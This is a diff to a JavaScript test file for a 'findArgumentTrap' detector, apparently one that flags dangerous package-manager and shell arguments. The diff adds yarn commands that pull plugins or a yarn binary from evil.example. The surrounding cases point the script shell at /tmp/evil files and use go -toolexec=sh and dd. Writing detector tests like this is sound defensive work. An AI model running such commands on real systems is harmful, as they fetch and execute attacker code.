@@ -145,6 +145,8 @@ describe('findArgumentTrap traps', () => {
     ['yarn node', ['yarn', 'node', '-e', 'x']],
     ['pnpm config set', ['pnpm', 'config', 'set', 'script-shell', '/tmp/evil.sh']],
     ['yarn config set', ['yarn', 'config', 'set', 'yarnPath', '/tmp/evil.js']],
+    ['yarn plugin import', ['yarn', 'plugin', 'import', 'https://evil.example/p.js']],
+    ['yarn set version', ['yarn', 'set', 'version', 'https://evil.example/yarn.js']],
     ['wget -e', ['wget', '-e', 'x=y', 'https://example.org']],
     ['dd of=', ['dd', 'if=/dev/zero', 'of=/tmp/x']],
     ['go -toolexec', ['go', 'build', '-toolexec=sh', './...']],
